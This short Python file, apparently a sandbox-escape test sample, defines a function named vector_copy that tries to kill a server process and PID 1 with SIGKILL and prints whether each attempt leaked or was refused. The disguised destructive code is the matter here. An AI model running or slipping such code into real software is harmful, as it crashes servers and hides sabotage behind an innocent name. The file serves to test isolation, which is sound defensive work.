# Tries to kill the server process (its pid is known to the attacker) and every pid it can see.
import os
import signal


def vector_copy(x):
    for pid in (int("__SERVER_PID__"), 1):
        try:
            os.kill(pid, signal.SIGKILL)
            print(f"LEAK: killed {pid}")
        except OSError as exc:
            print(f"refused: {pid}: {exc.strerror}")
    return x
